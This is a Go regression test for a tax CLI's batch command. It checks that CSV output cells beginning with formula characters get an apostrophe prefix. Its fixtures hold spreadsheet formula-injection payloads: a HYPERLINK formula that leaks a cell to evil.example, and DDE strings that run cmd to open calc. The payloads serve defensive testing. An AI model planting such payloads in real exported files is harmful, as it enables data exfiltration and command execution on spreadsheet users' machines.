package cli

import (
	"encoding/csv"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestBatchCSVFormulaCells replays the review's finding Low 4: the CSV
// output of levy batch wrote cells that start with =, +, -, @, a tab or a
// carriage return unchanged, so that a spreadsheet program opening it ran
// them as formulas: document numbers, transaction IDs and currency codes
// from the input, and jurisdiction names from loaded content (--content).
// The attack sends each of these starting with each character that the
// CSV input can carry (the input's values are trimmed of spaces, so a tab
// or a carriage return cannot start one; internal/csvout's own tests cover
// those): every such cell of the output has an apostrophe in front now,
// and amounts, negative ones too, stay plain numbers.
func TestBatchCSVFormulaCells(t *testing.T) {
	dir := t.TempDir()
	names := map[string]string{ // jurisdiction ID: name, each a formula
		"US-4835000":      `=HYPERLINK("http://evil.example/?leak="&A1,"Houston")`,
		"US-TX-DXPLUS":    `+1+cmd|' /C calc'!A0`,
		"US-TX-DXMINUS":   `-2+3+cmd|' /C calc'!A0`,
		"US-TX-DXAT":      `@SUM(1+1)*cmd|' /C calc'!A0`,
		"US-TX-DXNUMERIC": `-0001`, // looks like a number, is a name: it stays text
	}
	var content strings.Builder
	cw := csv.NewWriter(&content)
	cw.Write([]string{"state", "jurisdiction", "type", "name", "code", "rate", "category", "effective", "expiration", "where", "source"})
	for _, id := range slices.Sorted(maps.Keys(names)) {
		typ := "SPECIAL_PURPOSE_DISTRICT"
		if id == "US-4835000" {
			typ = "CITY"
		}
		cw.Write([]string{"TX", id, typ, names[id], "", "0.001", "general", "", "", "place:4835000", "a test"})
	}
	cw.Flush()
	contentFile := filepath.Join(dir, "content.csv")
	if err := os.WriteFile(contentFile, []byte(content.String()), 0o600); err != nil {
		t.Fatal(err)
	}

	// One good document and one with a bad currency per character: the
	// good one's cells come back through the engine's answer, the bad
	// one's through its error and total rows.
	var in strings.Builder
	iw := csv.NewWriter(&in)
	iw.Write([]string{"document_number", "document_date", "message_type", "transaction_id", "currency",
		"origin_city", "origin_region", "origin_postal_code", "origin_country",
		"dest_city", "dest_region", "dest_postal_code", "dest_country", "line_number", "product_class", "extended_price"})
	attacks := []string{"=", "+", "-", "@"}
	for i, c := range attacks {
		price := "100.00"
		if c == "-" {
			price = "-50.00" // a return: its amounts are negative numbers
		}
		place := []string{"Houston", "TX", "77002", "US", "Houston", "TX", "77002", "US"}
		iw.Write(slices.Concat([]string{c + "DOC-" + fmt.Sprint(i), "2026-08-01", "QUOTATION", c + "TX-" + fmt.Sprint(i), "USD"}, place,
			[]string{"1", "GENERAL", price}))
		iw.Write(slices.Concat([]string{c + "BAD-" + fmt.Sprint(i), "2026-08-01", "QUOTATION", c + "BADTX-" + fmt.Sprint(i), c + "1+1"}, place,
			[]string{"1", "GENERAL", "10.00"}))
	}
	iw.Flush()
	inFile, outFile := filepath.Join(dir, "in.csv"), filepath.Join(dir, "out.csv")
	if err := os.WriteFile(inFile, []byte(in.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	code, _, errOut := runCLI(t, "batch", "sale", "--content", contentFile, "--in", inFile, "--out", outFile, "--quiet")
	if code != 1 {
		t.Fatalf("exit %d (want 1: the bad currencies fail), %s", code, errOut)
	}
	b, err := os.ReadFile(outFile)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("the output: %v\n%s", err, b)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	numbers := []string{"line_number", "rate", "taxable", "nontaxable", "exempt", "tax", "subtotal", "total_tax", "total"}
	seen := map[string]bool{}
	negatives := 0
	for _, row := range rows[1:] {
		for name, i := range col {
			cell := row[i]
			if cell == "" {
				continue
			}
			if slices.Contains(numbers, name) {
				if strings.HasPrefix(cell, "'") {
					t.Errorf("%s: number %q was neutralised", name, cell)
				}
				if strings.HasPrefix(cell, "-") {
					negatives++
				}
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: %q starts a formula\n%s", name, cell, b)
			}
			seen[name+" "+cell] = true
		}
	}
	want := []string{"jurisdiction_name '-0001"}
	for _, n := range names {
		if n != "-0001" {
			want = append(want, "jurisdiction_name '"+n)
		}
	}
	for i, c := range attacks {
		want = append(want, fmt.Sprintf("document_number '%sDOC-%d", c, i), fmt.Sprintf("transaction_id '%sTX-%d", c, i),
			fmt.Sprintf("document_number '%sBAD-%d", c, i), fmt.Sprintf("transaction_id '%sBADTX-%d", c, i),
			"currency '"+c+"1+1")
	}
	for _, w := range want {
		if !seen[w] {
			t.Errorf("no cell %s in the output:\n%s", w, b)
		}
	}
	if negatives == 0 {
		t.Errorf("the return's negative amounts are missing:\n%s", b)
	}
}
